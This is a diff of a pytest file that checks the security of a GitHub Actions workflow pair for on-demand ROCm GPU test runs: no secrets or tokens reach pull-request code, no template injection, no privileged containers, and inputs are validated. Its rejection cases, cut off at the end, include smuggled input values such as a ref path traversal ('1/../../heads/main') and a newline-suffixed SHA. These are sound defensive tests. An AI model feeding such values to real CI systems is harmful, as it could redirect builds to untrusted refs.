@@ -1,43 +1,50 @@
 """deploy/workflows/rocm-on-demand.yml: the workflow the App dispatches for `/run-rocm`, and
-deploy/workflows/rocm-on-demand-job.yml, its GPU job for targets without a reusable ROCm job.
+deploy/workflows/rocm-on-demand-job.yml, the GPU job it calls for every shard.
 
 Linted offline by actionlint (with shellcheck on its shell scripts) and zizmor, with zero findings
-allowed, beside radixark/miles' real reusable job (vendored: tests/fixtures/targets/miles/
-workflows-778227d), so actionlint checks the call against that job's declared inputs; its
-structure checked from the parsed YAML; and its own scripts (the input checks, the static inventory
-check, the plan of the GPU jobs, the commit check and the commands the GPU jobs run) extracted and
-run against small git repositories, so what the workflow enforces is tested for real, not read.
+allowed, the two installed side by side so actionlint checks the call against the job's declared
+inputs; their structure checked from the parsed YAML; and their own scripts (the input checks, the
+static inventory check, the image resolution, the plan of the GPU jobs, the commit check, the
+container start with its cache modes, the install and the command) extracted and run against small
+git repositories, a stand-in registry and a stand-in `docker`, so what the workflows enforce is
+tested for real, not read. The App's run plans of both real targets (tests/fixtures/targets/*/ci-*)
+pass the input checks, and the commands the workflow builds from them are the commands the App's
+plan shows; each is parsed by the target's real runner.
 """
 
 from __future__ import annotations
 
 import ast
+import datetime
+import http.server
 import json
 import os
 import re
 import shutil
 import subprocess
 import sys
+import threading
 from pathlib import Path
 
 import pytest
 import yaml
 
 from checks.config import Dispatch, load_config
-from checks.dispatch_plan import RUNNER_SHAPES, default_runner_flags, plan, runs_on_for
+from checks.dispatch_plan import plan
 from checks.durations import parse_job_log
-from checks.runner import read_runner
+from checks.target_ci import read_target_ci
+from checks.tree import DirectoryTree
 
 ROOT = Path(__file__).resolve().parents[1]
 WORKFLOW = ROOT / "deploy" / "workflows" / "rocm-on-demand.yml"
 JOB_WORKFLOW = ROOT / "deploy" / "workflows" / "rocm-on-demand-job.yml"
 TARGETS = ROOT / "tests" / "fixtures" / "targets"
-MILES_WORKFLOWS = TARGETS / "miles" / "workflows-778227d"
-MILES_RUNNER = TARGETS / "miles" / "ci-runner-778227d" / "run_suite.py"
-MILES_INVENTORY = TARGETS / "miles" / "r2026-08-21-778227d" / "tests" / "ci" / "run_suite.py"
-SGLANG_NIGHTLY = TARGETS / "sglang" / "workflows-382343f" / "nightly-test-amd-miles-rocm720.yml"
+MILES = TARGETS / "miles" / "ci-31f1ca9"
+SGLANG = TARGETS / "sglang" / "ci-382343f"
+CONSUMER_PATH = ".github/workflows/nightly-test-amd-miles-rocm720.yml"
 BIN = Path(sys.executable).parent
-INPUTS = ("suite", "head_sha", "pull_number", "test_files", "runs_on", "shards", "image", "runner_flags")
+INPUTS = ("suite", "head_sha", "pull_number", "test_files", "plan")
+ANY = 'dispatch:\n  "*":\n    workflow: rocm-on-demand.yml\n'
 
 TEXT = WORKFLOW.read_text()
 DOC = yaml.safe_load(TEXT)
@@ -47,6 +54,8 @@ RUN = JOBS["run"]
 JOB_TEXT = JOB_WORKFLOW.read_text()
 JOB_DOC = yaml.safe_load(JOB_TEXT)
 GPU_JOB = JOB_DOC["jobs"]["run"]
+RUNNER_LABELS = ["amd", "mi350", "4gpu", "8gpu", "linux-mi35x-gpu-1", "linux-mi35x-gpu-2", "linux-mi35x-gpu-8",
+                 "linux-mi35x-gpu-8.fabric"]
 
 
 def _tool(name: str) -> str:
@@ -63,51 +72,45 @@ def _step(job: dict, step_id: str | None = None, *, uses: str | None = None, nam
     for step in job["steps"]:
         if step_id is not None and step.get("id") == step_id:
             return step
-        if uses is not None and step.get("uses", "").startswith(uses):
+        if uses is not None and str(step.get("uses", "")).startswith(uses):
             return step
         if name_has is not None and name_has in step.get("name", ""):
             return step
-    raise AssertionError(f"no step {step_id or uses or name_has!r}")
+    raise AssertionError(f"no step {step_id or uses or name_has}")
 
 
 def _run_steps():
-    for doc in (DOC, JOB_DOC):
-        for job_id, job in doc["jobs"].items():
-            for step in job.get("steps", []):
-                if "run" in step:
-                    yield job_id, step
+    for job_id, job in [*JOBS.items(), *JOB_DOC["jobs"].items()]:
+        for step in job.get("steps", []):
+            if "run" in step:
+                yield job_id, step
 
 
-def _workflow_constant(name: str):
-    """A literal the shapes step holds itself (RUNNERS, MAX_SHARDS, RUNNER_FLAGS, ...)."""
-    for node in ast.parse(_step(VALIDATE, "shapes")["run"]).body:
-        if isinstance(node, ast.Assign) and [t.id for t in node.targets if isinstance(t, ast.Name)] == [name]:
+def _workflow_constant(name: str, step_id: str = "shapes"):
+    """A list the installer edits, read from the step's script (a literal)."""
+    tree = ast.parse(_step(VALIDATE, step_id)["run"])
+    for node in tree.body:
+        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name) and node.targets[0].id == name:
             return ast.literal_eval(node.value)
-    raise AssertionError(f"no {name} in the shapes step")
+    raise AssertionError(name)
 
 
-# ----------------------------------------------------------------------------------------------
-# The linters, offline, with zero findings, on the workflows as installed
-
-
-def _installed(tmp_path: Path, caller: str = TEXT, job: str | None = None) -> Path:
-    """A repository's .github/workflows: the shipped caller beside a reusable `_run-ci-rocm.yml`
-    (miles' real one unless `job` is given), as actionlint needs them to check the call."""
+def _installed(tmp_path: Path, caller: str = TEXT, job: str = JOB_TEXT) -> Path:
+    """The two workflows in a repository, as the installation instructions say."""
     workflows = tmp_path / "repo" / ".github" / "workflows"
     workflows.mkdir(parents=True, exist_ok=True)
     # actionlint finds the project (and so the called workflow) by its .git directory; without
     # one it skips checking the call, silently.
     (tmp_path / "repo" / ".git").mkdir(exist_ok=True)
     (workflows / "rocm-on-demand.yml").write_text(caller)
-    (workflows / "_run-ci-rocm.yml").write_text(job if job is not None else (MILES_WORKFLOWS / "_run-ci-rocm.yml").read_text())
+    (workflows / "rocm-on-demand-job.yml").write_text(job)
     return workflows
 
 
 def _actionlint(path: Path, tmp_path: Path, *, cwd: Path | None = None) -> list[dict]:
     config = tmp_path / "actionlint.yaml"
     # Without this, actionlint rejects the self-hosted MI350 labels as unknown runner labels.
-    labels = sorted({label for shape in RUNNER_SHAPES.values() for label in shape} - {"self-hosted"})
-    config.write_text(f"self-hosted-runner:\n  labels: {json.dumps(labels)}\n")
+    config.write_text(f"self-hosted-runner:\n  labels: {json.dumps(RUNNER_LABELS)}\n")
     shellcheck = shutil.which("shellcheck", path=str(BIN)) or shutil.which("shellcheck") or ""
     done = subprocess.run(
         [_tool("actionlint"), "-config-file", str(config), "-shellcheck", shellcheck, "-format", "{{json .}}", str(path)],
@@ -131,25 +134,19 @@ def _repo_root(workflows: Path) -> Path:
     return workflows.parent.parent
 
 
-def test_actionlint_finds_nothing_calling_miles_real_reusable_job(tmp_path):
+def test_actionlint_finds_nothing(tmp_path):
     workflows = _installed(tmp_path)
-    assert _actionlint(workflows / "rocm-on-demand.yml", tmp_path, cwd=_repo_root(workflows)) == []
-
-
-def test_actionlint_finds_nothing_with_the_shipped_gpu_job(tmp_path):
-    workflows = _installed(tmp_path, job=JOB_TEXT)
     root = _repo_root(workflows)
     assert _actionlint(workflows / "rocm-on-demand.yml", tmp_path, cwd=root) == []
-    assert _actionlint(workflows / "_run-ci-rocm.yml", tmp_path, cwd=root) == []
+    assert _actionlint(workflows / "rocm-on-demand-job.yml", tmp_path, cwd=root) == []
 
 
-@pytest.mark.parametrize("job", ["miles", "shipped"])
-def test_actionlint_checks_the_call_against_the_reusable_jobs_inputs(tmp_path, job):
+def test_actionlint_checks_the_call_against_the_gpu_jobs_inputs(tmp_path):
     # A misspelt input and a missing required one: actionlint reads the called workflow.
     broken = TEXT.replace("container_image: ${{ needs.validate.outputs.image }}",
                           "container_imag: ${{ needs.validate.outputs.image }}")
     assert broken != TEXT
-    workflows = _installed(tmp_path, broken, job=None if job == "miles" else JOB_TEXT)
+    workflows = _installed(tmp_path, broken)
     findings = _actionlint(workflows / "rocm-on-demand.yml", tmp_path, cwd=_repo_root(workflows))
     messages = [f["message"] for f in findings if f["kind"] == "workflow-call"]
     assert any('"container_imag" is not defined' in m for m in messages), findings
@@ -206,16 +203,13 @@ def test_dispatch_inputs_match_the_apps_dispatch_table():
     assert set(on) == {"workflow_dispatch"}
     inputs = on["workflow_dispatch"]["inputs"]
     assert tuple(inputs) == INPUTS
-    assert set(inputs) == set(Dispatch(workflow="rocm-on-demand.yml").inputs)  # the App's defaults
+    assert set(Dispatch(workflow="rocm-on-demand.yml").inputs) == set(inputs)  # the App's defaults
     assert len(inputs) <= 10  # GitHub Enterprise Server 3.17-3.19 take at most 10
     for name, spec in inputs.items():
         assert spec["type"] == "string", name
-    for name in ("suite", "head_sha", "pull_number"):
+    for name in ("suite", "head_sha", "pull_number", "plan"):
         assert inputs[name]["required"] is True
-    for name in INPUTS[3:]:
-        assert inputs[name]["required"] is False, name
-    assert inputs["test_files"]["default"] == "" and inputs["shards"]["default"] == "1"
-    assert json.loads(inputs["runs_on"]["default"]) in _workflow_constant("RUNNERS")
+    assert inputs["test_files"]["required"] is False and inputs["test_files"]["default"] == ""
 
 
 def test_run_name_identifies_the_run():
@@ -237,7 +231,7 @@ def test_permissions_and_concurrency():
 def test_no_expression_inside_any_script():
     # Inputs reach scripts only through env: `${{ }}` in a script is template injection.
     scripts = list(_run_steps())
-    assert len(scripts) >= 8
+    assert len(scripts) >= 10
     for job_id, step in scripts:
         assert "${{" not in step["run"], (job_id, step.get("name"))
 
@@ -259,63 +253,64 @@ def test_validation_comes_first_and_never_executes_pr_code():
     assert checkout["with"]["ref"] == "refs/pull/${{ inputs.pull_number }}/head"
     assert checkout["with"]["persist-credentials"] is False
     assert checkout["with"]["sparse-checkout"] == "tests/ci/run_suite.py"
+    trusted = _step(VALIDATE, name_has="this branch's workflows")
+    assert trusted["with"]["ref"] == "${{ github.sha }}" and trusted["with"]["sparse-checkout"] == ".github/workflows"
     inventory = _step(VALIDATE, "inventory")
-    assert steps.index(inventory) > steps.index(checkout)
+    assert steps.index(inventory) > steps.index(checkout) and steps.index(inventory) > steps.index(trusted)
     assert "import ast" in inventory["run"]
     # The only scripts of this job are its Python checks and plan: nothing runs a file of the PR.
-    assert [s.get("id") for s in steps if "run" in s] == ["shapes", "inventory", "plan"]
+    assert [s.get("id") for s in steps if "run" in s] == ["shapes", "inventory", "image", "plan"]
     for step in (_step(VALIDATE, "shapes"), inventory):
         assert step["shell"] == "python"
         for name, var in (("suite", "SUITE"), ("head_sha", "HEAD_SHA"), ("pull_number", "PULL_NUMBER"), ("test_files", "TEST_FILES")):
             assert step["env"][var] == "${{ inputs.%s }}" % name
-    shapes = _step(VALIDATE, "shapes")
-    for name, var in (("runs_on", "RUNS_ON"), ("shards", "SHARDS"), ("image", "IMAGE"), ("runner_flags", "RUNNER_FLAGS")):
-        assert shapes["env"][var] == "${{ inputs.%s }}" % name
-    # The GPU jobs get only what the checks wrote: no raw input of these four reaches them.
-    assert VALIDATE["outputs"] == {"runs_on": "${{ steps.shapes.outputs.runs_on }}",
-                                   "image": "${{ steps.shapes.outputs.image }}",
-                                   "matrix": "${{ steps.plan.outputs.matrix }}"}
+    assert _step(VALIDATE, "shapes")["env"]["PLAN"] == "${{ inputs.plan }}"
+    # The GPU jobs get only what the checks wrote: no raw input reaches them.
+    for name, value in VALIDATE["outputs"].items():
+        assert value.startswith("${{ steps.") and "inputs." not in value, name
     plan_step = _step(VALIDATE, "plan")
     assert plan_step["env"]["SHARDS"] == "${{ steps.shapes.outputs.shards }}"
     assert plan_step["env"]["RUNNER_FLAGS"] == "${{ steps.shapes.outputs.runner_flags }}"
+    assert plan_step["env"]["TIMEOUT_PER_FILE"] == "${{ steps.shapes.outputs.timeout_per_file }}"
+    assert _step(VALIDATE, "image")["env"]["IMAGE"] == "${{ steps.shapes.outputs.image }}"
 
 
-def test_the_gpu_jobs_call_the_targets_own_reusable_job_with_checked_values_only():
+def test_the_gpu_jobs_call_the_shipped_gpu_job_with_checked_values_only():
     assert RUN["needs"] == "validate"
-    assert RUN["uses"] == "./.github/workflows/_run-ci-rocm.yml"
+    assert RUN["uses"] == "./.github/workflows/rocm-on-demand-job.yml"
     assert RUN["strategy"] == {"fail-fast": False, "matrix": "${{ fromJSON(needs.validate.outputs.matrix) }}"}
     assert RUN["with"] == {
         "ref": "${{ inputs.head_sha }}",  # checked to be refs/pull/<n>/head by the validate job
         "runs_on": "${{ needs.validate.outputs.runs_on }}",
         "container_image": "${{ needs.validate.outputs.image }}",
         "execute_command": "${{ matrix.command }}",
+        "install": "${{ needs.validate.outputs.install }}",
+        "env": "${{ needs.validate.outputs.env }}",
+        "workdir": "${{ needs.validate.outputs.workdir }}",
+        "cache": "${{ needs.validate.outputs.cache }}",
+        "job_timeout_min": "${{ needs.validate.outputs.job_timeout_min }}",
     }
-    # miles' job accepts exactly these (and an optional skip_dependency_install, left at its default)
-    miles = yaml.safe_load((MILES_WORKFLOWS / "_run-ci-rocm.yml").read_text())
-    declared = (miles.get("on") or miles[True])["workflow_call"]["inputs"]
-    assert set(RUN["with"]) <= set(declared) and {k for k, v in declared.items() if v.get("required")} <= set(RUN["with"])
-    shipped = (JOB_DOC.get("on") or JOB_DOC[True])["workflow_call"]["inputs"]
-    assert set(shipped) == set(RUN["with"])  # the shipped GPU job is a drop-in for miles' one
+    declared = (JOB_DOC.get("on") or JOB_DOC[True])["workflow_call"]["inputs"]
+    assert set(declared) == set(RUN["with"])
+    # the job's timeout is the plan's (the target's own job's), so what was charged is what may run
+    assert GPU_JOB["timeout-minutes"] == "${{ fromJSON(inputs.job_timeout_min) }}"
+    assert GPU_JOB["runs-on"] == "${{ fromJSON(inputs.runs_on) }}"
 
 
 def test_no_secret_reaches_the_job_that_runs_pr_code():
-    # miles' reusable job would take a secret if given one...
-    miles = yaml.safe_load((MILES_WORKFLOWS / "_run-ci-rocm.yml").read_text())
-    assert "WANDB_API_KEY" in (miles.get("on") or miles[True])["workflow_call"]["secrets"]
-    # ...and its own caller passes it; this one passes none, not even `inherit`.
-    pr_test = yaml.safe_load((MILES_WORKFLOWS / "pr-test-rocm.yml").read_text())
-    assert pr_test["jobs"]["stage-c-4-gpu-mi350"]["secrets"] == {"WANDB_API_KEY": "${{ secrets.WANDB_API_KEY }}"}
     assert "secrets" not in RUN
     for text, doc in ((TEXT, DOC), (JOB_TEXT, JOB_DOC)):
         assert "secrets" not in _keys(doc)  # no `secrets:` to a call, no `secrets:` declared
         assert not re.search(r"secrets\s*[.\[]", text)  # no secrets.X anywhere
         assert "github.token" not in text and "GITHUB_TOKEN" not in text
     assert "env" not in DOC and "env" not in RUN
-    assert set(GPU_JOB["env"]) == {"PYTHONPATH", "MILES_HARDWARE_PLATFORM"}
-    assert set(GPU_JOB["container"].get("env", {})) == {"HF_HOME", "MIOPEN_USER_DB_PATH", "MIOPEN_CUSTOM_CACHE_DIR"}
-    checkout = _step(GPU_JOB, uses="actions/checkout@")
-    assert checkout["with"] == {"ref": "${{ inputs.ref }}", "persist-credentials": False}
-    assert GPU_JOB["steps"].index(checkout) == 0
+    assert set(GPU_JOB["env"]) == {"PROFILE"}
+    for checkout in [s for s in GPU_JOB["steps"] if str(s.get("uses", "")).startswith("actions/checkout@")]:
+        assert checkout["with"]["persist-credentials"] is False
+    pr = _step(GPU_JOB, name_has="approved commit")
+    assert pr["with"] == {"ref": "${{ inputs.ref }}", "path": "checkout", "persist-credentials": False}
+    trusted = _step(GPU_JOB, name_has="trusted CI scripts")
+    assert trusted["with"]["ref"] == "${{ github.sha }}" and trusted["with"]["path"] == "trusted"
     for step in GPU_JOB["steps"]:
         for value in (step.get("env") or {}).values():
             assert "secret" not in str(value).lower() and "token" not in str(value).lower()
@@ -329,85 +324,20 @@ def _keys(node) -> set:
     return set()
 
 
-def test_the_shipped_gpu_job_carries_the_container_pattern():
-    options = GPU_JOB["container"]["options"].split()
-    for option in ("--device=/dev/kfd", "--device=/dev/dri", "--shm-size=32g", "video", "render", "--ipc=host"):
-        assert option in options, option
-    assert GPU_JOB["runs-on"] == "${{ fromJSON(inputs.runs_on) }}"
-    assert GPU_JOB["container"]["image"] == "${{ inputs.container_image }}"
+def test_the_gpu_job_never_shares_the_hosts_ipc_nor_runs_privileged():
+    assert "container" not in GPU_JOB  # it starts the target's container itself, with these options
+    assert "--ipc=host" not in JOB_TEXT and "--privileged" not in JOB_TEXT
+    start = _step(GPU_JOB, name_has="Start the container")["run"]
+    for option in ("--device=/dev/kfd", "--shm-size 32g", "--group-add video", "--group-add render"):
+        assert option in start, option
     names = [s.get("name", "") for s in GPU_JOB["steps"]]
-    assert names.index("Wait for the GPUs") < names.index("Run the tests")
-    run = _step(GPU_JOB, name_has="Run the tests")
-    assert run["env"] == {"EXECUTE_COMMAND": "${{ inputs.execute_command }}"}
+    assert names.index("Start the container") < names.index("Install the pull request's code as the target's job does") \
+        < names.index("Run the tests") < names.index("Remove the container")
+    assert _step(GPU_JOB, name_has="Remove the container")["if"] == "${{ always() }}"
 
 
 # ----------------------------------------------------------------------------------------------
-# Where suites run: the App's defaults against the real fleets and this workflow's own lists
-
-
-def _real_runner_shapes() -> list[list[str]]:
-    """Runner label sets of the ROCm jobs in miles' and sglang's real workflows."""
-    shapes = []
-    pr_test = yaml.safe_load((MILES_WORKFLOWS / "pr-test-rocm.yml").read_text())
-    for job in pr_test["jobs"].values():
-        if "runs_on" in job.get("with", {}):
-            shapes.append(json.loads(job["with"]["runs_on"]))
-    nightly = yaml.safe_load(SGLANG_NIGHTLY.read_text())
-    for job in nightly["jobs"].values():
-        for entry in job.get("strategy", {}).get("matrix", {}).get("include", []):
-            shapes.append([entry["runner"]])
-    return shapes
-
-
-def _miles_rocm_suites() -> list[str]:
-    tree = ast.parse(MILES_INVENTORY.read_text())
-    for node in tree.body:
-        if isinstance(node, ast.Assign) and node.targets[0].id == "CI_SUITES":
-            for key, value in zip(node.value.keys, node.value.values):
-                if key.attr == "ROCM":
-                    return [e.value for e in value.elts]
-    raise AssertionError("no ROCm suites")
-
-
-def test_every_miles_rocm_suite_runs_on_a_real_runner_shape_this_workflow_accepts():
-    real = _real_runner_shapes()
-    assert ["self-hosted", "amd", "mi350", "4gpu"] in real and ["linux-mi35x-gpu-8"] in real
-    accepted = _workflow_constant("RUNNERS")
-    suites = _miles_rocm_suites()
-    assert len(suites) == 4
-    for suite in suites:
-        labels = list(runs_on_for(suite, Dispatch(workflow="rocm-on-demand.yml")))
-        assert labels in real, (suite, labels)
-        assert labels in accepted, (suite, labels)
-    assert list(runs_on_for("nightly-stage-c-8-gpu-mi350", Dispatch(workflow="x.yml"))) == ["linux-mi35x-gpu-8"]
-    assert list(runs_on_for("stage-c-4-gpu-mi350", Dispatch(workflow="x.yml"))) == ["self-hosted", "amd", "mi350", "4gpu"]
-
-
-def _miles_options():
-    return read_runner("tests/ci/run_suite.py", ast.parse(MILES_RUNNER.read_text()), "tests/ci/ci_register.py",
-                       None, set()).options
-
-
-def test_the_flags_the_app_plans_for_miles_are_flags_this_workflow_accepts():
-    options = _miles_options()
-    accepted = _workflow_constant("RUNNER_FLAGS")
-    for suite in _miles_rocm_suites():
-        flags = default_runner_flags(suite, options)
-        assert "--match-all-labels" in flags and "--continue-on-error" in flags
-        assert ("--cadence" in flags) is suite.startswith("nightly-")
-        i = 0
-        while i < len(flags):
-            assert flags[i] in accepted, flags[i]
-            if accepted[flags[i]] is not None:
-                assert flags[i + 1] in accepted[flags[i]]
-                i += 1
-            i += 1
-    assert default_runner_flags("nightly-stage-c-8-gpu-mi350", options) == (
-        "--cadence", "nightly", "--match-all-labels", "--continue-on-error", "--enable-retry", "--max-attempts", "2")
-
-
-# ----------------------------------------------------------------------------------------------
-# The input checks, run
+# The App's plans of both real targets, through this workflow's checks and plan
 
 
 def _python_step(step: dict, env: dict[str, str], cwd: Path | None = None) -> subprocess.CompletedProcess:
@@ -420,13 +350,131 @@ def _python_step(step: dict, env: dict[str, str], cwd: Path | None = None) -> su
         [sys.executable, "-c", step["run"]], env={"PATH": os.environ["PATH"], **env},
         cwd=cwd, capture_output=True, text=True, timeout=60,
     )
-    done.outputs = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line)
+    done.outputs = _outputs(output.read_text())
     return done
 
 
+def _outputs(text: str) -> dict[str, str]:
+    """GITHUB_OUTPUT's `name=value` lines and `name<<DELIM ... DELIM` blocks."""
+    out, lines, i = {}, text.split("\n"), 0
+    while i < len(lines):
+        line = lines[i]
+        if "<<" in line and "=" not in line.split("<<", 1)[0]:
+            name, delim = line.split("<<", 1)
+            j = lines.index(delim, i + 1)
+            out[name] = "\n".join(lines[i + 1:j])
+            i = j + 1
+            continue
+        if "=" in line:
+            name, value = line.split("=", 1)
+            out[name] = value
+        i += 1
+    return out
+
+
+def _target_plan(target: str, suite: str, extra: str = ""):
+    if target == "sglang":
+        config, _ = load_config((ROOT / "docs" / "configs" / "sglang.yml").read_text() + ANY + extra)
+        ci = read_target_ci(DirectoryTree(SGLANG), config)
+    else:
+        config, _ = load_config(ANY + extra)
+        ci = read_target_ci(DirectoryTree(MILES), config,
+                            consumers_from={f"sgl-project/sglang:{CONSUMER_PATH}": (SGLANG / CONSUMER_PATH).read_bytes()})
+    return plan(suite, config.dispatch_for(suite), ci.options, [], jobs=ci.jobs, fleet=ci.fleet,
+                suites_module=config.paths.suites_module)
+
+
 SHA = "0123456789abcdef0123456789abcdef01234567"
+PLAN = {"runs_on": ["self-hosted", "amd", "mi350", "4gpu"], "shards": 1, "image": "rocm/sgl-dev:miles-rocm720-mi35x",
+        "image_days": 0, "timeout_per_file_s": 1800, "job_timeout_min": 180, "runner_flags": [], "install": [],
+        "env": [], "cache": "read-only"}
 GOOD = {"SUITE": "nightly-stage-c-4-gpu-mi350", "HEAD_SHA": SHA, "PULL_NUMBER": "123", "TEST_FILES": "",
-        "RUNS_ON": '["self-hosted","amd","mi350","4gpu"]', "SHARDS": "1", "IMAGE": "", "RUNNER_FLAGS": ""}
+        "PLAN": json.dumps(PLAN)}
+# sglang's settings of the plan step (docs/on-demand-workflow.md's table)
+SGLANG_PLAN_ENV = {"RUNNER_SCRIPT": "run_suite.py", "RUNNER_WORKDIR": "test", "RUNNER_HW": "amd"}
+
+
+def _with_plan(**changes) -> dict:
+    return {**GOOD, "PLAN": json.dumps({**PLAN, **changes})}
+
+
+def _plan_matrix(shapes_outputs: dict, suite: str, files: str = "", **settings) -> tuple[list[dict], str]:
+    step = _step(VALIDATE, "plan")
+    env = {k: v for k, v in step["env"].items() if "${{" not in v}
+    env.update(settings)
+    env.update(SUITE=suite, TEST_FILES=files, SHARDS=shapes_outputs["shards"], RUNNER_FLAGS=shapes_outputs["runner_flags"],
+               TIMEOUT_PER_FILE=shapes_outputs["timeout_per_file"])
+    done = _python_step(step, env)
+    assert done.returncode == 0, done.stdout + done.stderr
+    return json.loads(done.outputs["matrix"])["include"], done.outputs["workdir"]
+
+
+def _sglang_mi35x_suites() -> list[str]:
+    from tests.test_fleet_plans import _mi35x_jobs
+
+    return sorted(_mi35x_jobs())
+
+
+@pytest.mark.parametrize(("target", "suite"), [
+    *(("sglang", s) for s in _sglang_mi35x_suites()),
+    ("miles", "stage-c-4-gpu-mi350"), ("miles", "nightly-stage-c-4-gpu-mi350"),
+])
+def test_the_apps_plan_passes_the_checks_and_becomes_the_commands_it_shows(target, suite):
+    """The differential: what the App plans (and shows in its reply, and `run-plan` prints) is
+    what this workflow accepts and runs, command for command: every AMD suite of sglang's MI35x
+    jobs, and miles' plannable ROCm suites."""
+    run = _target_plan(target, suite)
+    inputs = run.inputs()
+    shapes = _python_step(_step(VALIDATE, "shapes"), {**GOOD, "SUITE": suite, "PLAN": inputs["plan"]})
+    assert shapes.returncode == 0, shapes.stdout
+    assert json.loads(shapes.outputs["runs_on"]) == list(run.runs_on)
+    assert int(shapes.outputs["job_timeout_min"]) == run.job_timeout_min
+    assert shapes.outputs["install"].split("\n") == list(run.install) if run.install else shapes.outputs["install"] == ""
+    assert shapes.outputs["cache"] == "read-only"
+    settings = SGLANG_PLAN_ENV if target == "sglang" else {}
+    matrix, workdir = _plan_matrix(shapes.outputs, suite, **settings)
+    assert [m["command"] for m in matrix] == run.commands()
+    assert workdir == run.workdir
+    assert all("--list-only" not in m["command"] for m in matrix)
+
+
+def _parser_probe(runner: Path, prelude: str) -> str:
+    """The runner's own argparse setup as a script that prints the parsed arguments (its imports
+    stubbed: nothing else of it runs)."""
+    text = runner.read_text()
+    body = text.split("def main():", 1)[1].split("args = parser.parse_args()", 1)[0]
+    return prelude + "def main():" + body + "args = parser.parse_args()\n    print(json.dumps(vars(args)))\nmain()\n"
+
+
+def test_every_command_parses_with_the_targets_real_runner(tmp_path):
+    """sglang's runner rejects `--list-only` (exit 2) and accepts every command the plans give it;
+    miles' runner accepts its plans' commands."""
+    sglang = _parser_probe(SGLANG / "test" / "run_suite.py",
+                           "import argparse, json, sys\nHW_MAPPING = {'cpu': 0, 'cuda': 1, 'amd': 2}\n")
+    miles = _parser_probe(MILES / "tests" / "ci" / "run_suite.py",
+                          "import argparse, json, sys\nCI_CADENCES = {'regular', 'nightly', 'weekly', 'release'}\n"
+                          "NIGHTLY_CADENCE, REGULAR_CADENCE = 'nightly', 'regular'\nHW_MAPPING = {'cpu': 0, 'cuda': 1, 'rocm': 2}\n")
+    repo, _ = _repo(tmp_path, {"test/run_suite.py": sglang, "tests/ci/run_suite.py": miles})
+    for target, suite, runner_dir in (("sglang", "stage-c-test-large-8-gpu-amd-mi35x", repo / "test"),
+                                      ("sglang", "nightly-amd-8-gpu-mi35x-deepseek-v4-pro", repo / "test"),
+                                      ("miles", "stage-c-4-gpu-mi350", repo), ("miles", "nightly-stage-c-4-gpu-mi350", repo)):
+        run = _target_plan(target, suite)
+        for shard, command in enumerate(run.commands()):
+            done = subprocess.run(["bash", "-c", command], cwd=runner_dir, capture_output=True, text=True, timeout=60)
+            assert done.returncode == 0, (command, done.stderr)
+            args = json.loads(done.stdout)
+            assert args["suite"] == suite and args["timeout_per_file"] == run.timeout_per_file_s
+            if run.shards > 1:
+                assert (args["auto_partition_id"], args["auto_partition_size"]) == (shard, run.shards)
+    rejected = subprocess.run(["bash", "-c", run.command(0) + " --list-only"], cwd=repo, capture_output=True, text=True)
+    assert rejected.returncode == 0  # miles' runner has --list-only...
+    run = _target_plan("sglang", "stage-c-test-large-8-gpu-amd-mi35x")
+    rejected = subprocess.run(["bash", "-c", run.command(0) + " --list-only"], cwd=repo / "test", capture_output=True, text=True)
+    assert rejected.returncode == 2 and "unrecognized arguments: --list-only" in rejected.stderr  # ...sglang's has not
+
+
+# ----------------------------------------------------------------------------------------------
+# The input checks, run
 
 
 @pytest.mark.parametrize(
@@ -438,13 +486,18 @@ GOOD = {"SUITE": "nightly-stage-c-4-gpu-mi350", "HEAD_SHA": SHA, "PULL_NUMBER": 
         {"TEST_FILES": " tests/fast-gpu/a/b-c/test_x.py  tests/ci/test_y.py "},
         {"SUITE": "a"},
         {"PULL_NUMBER": "9999999999"},
-        {"RUNS_ON": '["linux-mi35x-gpu-8"]', "SHARDS": "2"},
-        {"RUNS_ON": '[ "self-hosted", "amd", "mi350", "4gpu" ]', "SHARDS": "8"},
-        {"IMAGE": "miles-rocm720-mi35x-20260811"},
-        {"IMAGE": "rocm/sgl-dev:miles-rocm720-mi35x"},
-        {"IMAGE": "rocm/sgl-dev@sha256:" + "a" * 64},
-        {"RUNNER_FLAGS": "--cadence nightly --match-all-labels --continue-on-error --enable-retry --max-attempts 2"},
-        {"RUNNER_FLAGS": " --nightly  "},
+        _with_plan(runs_on=["linux-mi35x-gpu-8"], shards=2),
+        _with_plan(runs_on=["linux-mi35x-gpu-8.fabric"], shards=8),
+        _with_plan(image="miles-rocm720-mi35x-20260811"),
+        _with_plan(image="rocm/sgl-dev:miles-rocm720-mi35x-{date}", image_days=7),
+        _with_plan(image="rocm/sgl-dev:{version}-rocm724-mi35x-{date}", image_days=7),
+        _with_plan(image="rocm/sgl-dev@sha256:" + "a" * 64),
+        _with_plan(runner_flags=["--cadence", "nightly", "--match-all-labels", "--continue-on-error", "--enable-retry",
+                                 "--max-attempts", "2"]),
+        _with_plan(runner_flags=["--nightly"], timeout_per_file_s=14400, job_timeout_min=480),
+        _with_plan(install=["bash scripts/ci/amd/amd_ci_install_dependency.sh --skip-test-time-deps",
+                            "bash scripts/ci/amd/amd_ci_exec.sh pip install tabulate"]),
+        _with_plan(env=["SGLANG_USE_AITER=1", "RCCL_MSCCL_ENABLE=0"], cache="scratch"),
     ],
 )
 def test_shapes_accepts(changes):
@@ -452,82 +505,43 @@ def test_shapes_accepts(changes):
     assert done.returncode == 0, done.stdout + done.stderr
 
 
-def test_shapes_writes_the_checked_values_for_the_gpu_jobs():
-    done = _python_step(_step(VALIDATE, "shapes"), {**GOOD, "RUNS_ON": '[ "linux-mi35x-gpu-8" ]', "SHARDS": "2",
-                                                    "RUNNER_FLAGS": " --cadence  nightly "})
-    assert done.returncode == 0, done.stdout + done.stderr
-    assert done.outputs == {"runs_on": '["linux-mi35x-gpu-8"]', "image": "rocm/sgl-dev:miles-rocm720-mi35x",
-                            "shards": "2", "runner_flags": "--cadence nightly"}
-    digest = "rocm/sgl-dev@sha256:" + "0" * 64
-    assert _python_step(_step(VALIDATE, "shapes"), {**GOOD, "IMAGE": digest}).outputs["image"] == digest
-
-
 @pytest.mark.parametrize(
     "changes",
     [
-        {"HEAD_SHA": SHA.upper()},
-        {"HEAD_SHA": SHA[:39]},
-        {"HEAD_SHA": SHA + "0"},
-        {"HEAD_SHA": "main"},
-        {"HEAD_SHA": SHA + "\n"},
-        {"PULL_NUMBER": ""},
-        {"PULL_NUMBER": "0"},
-        {"PULL_NUMBER": "12a"},
-        {"PULL_NUMBER": "1/../../heads/main"},
-        {"PULL_NUMBER": "-1"},
-        {"PULL_NUMBER": "12345678901"},
